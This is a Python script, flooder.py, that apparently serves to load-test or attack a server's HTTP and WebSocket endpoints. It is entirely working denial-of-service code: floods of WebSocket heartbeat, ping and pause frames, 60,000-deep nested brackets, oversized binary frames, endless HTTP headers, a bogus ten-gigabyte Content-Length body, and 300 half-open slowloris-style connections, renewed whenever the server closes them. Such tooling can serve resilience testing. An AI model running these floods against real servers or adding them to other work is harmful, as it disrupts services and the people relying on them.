"""A program that does its worst to a server for a while: ``flooder.py HOST:PORT KIND SECONDS``."""

import socket
import struct
import sys
import threading
import time


def frame(opcode: int, payload: bytes) -> bytes:
    size = bytes([0x80 | len(payload)]) if len(payload) < 126 else b"\xfe" + struct.pack(">H", len(payload))
    return bytes([0x80 | opcode]) + size + bytes(4) + payload


FLOODS = {
    "heartbeats": 500 * frame(1, b'{"type":"heartbeat"}'),
    "pings": 2000 * frame(9, b""),
    "commands": 500 * frame(1, b'{"type":"pause"}'),
    "nesting": 4 * frame(1, b"[" * 60_000),
    "binary": 4 * frame(2, bytes(60_000)),
}
ENDLESS = {
    "head": ("GET / HTTP/1.1\r\nHost: {0}\r\nX: ", b"a" * 65_536),
    "body": (
        "POST /api/library/scan HTTP/1.1\r\nHost: {0}\r\nContent-Length: 9999999999\r\n\r\n",
        b" " * 65_536,
    ),
}


def connect(address: str) -> socket.socket:
    host, port = address.split(":")
    return socket.create_connection((host, int(port)), timeout=20)


def websocket(address: str) -> socket.socket:
    opened = connect(address)
    opened.sendall(
        f"GET /ws HTTP/1.1\r\nHost: {address}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
    )
    assert b" 101 " in opened.recv(4096)
    return opened


def read_away(opened: socket.socket) -> None:
    try:
        while opened.recv(65_536):
            pass
    except OSError:
        return


def flood(address: str, kind: str, seconds: float) -> None:
    """Attack for the whole time: a server that has had enough and closes is attacked anew."""
    end = time.monotonic() + seconds
    if kind == "half":
        halves = [connect(address) for _ in range(300)]
        for half in halves:
            half.sendall(b"GET /ws HTTP/1.1\r\nHost: ")
        time.sleep(seconds)
        return
    while time.monotonic() < end:
        attack(address, kind, end)


def attack(address: str, kind: str, end: float) -> None:
    """Send without end on one connection, until the server closes it or the time is over."""
    try:
        if kind in ENDLESS:
            head, piece = ENDLESS[kind]
            opened = connect(address)
            opened.sendall(head.format(address).encode())
        else:
            opened, piece = websocket(address), FLOODS[kind]
        with opened:
            reader = threading.Thread(target=read_away, args=(opened,), daemon=True)
            reader.start()
            opened.settimeout(max(0.1, end - time.monotonic()))
            while time.monotonic() < end:
                opened.sendall(piece)
    except OSError:
        return  # the server has had enough


if __name__ == "__main__":
    flood(sys.argv[1], sys.argv[2], float(sys.argv[3]))
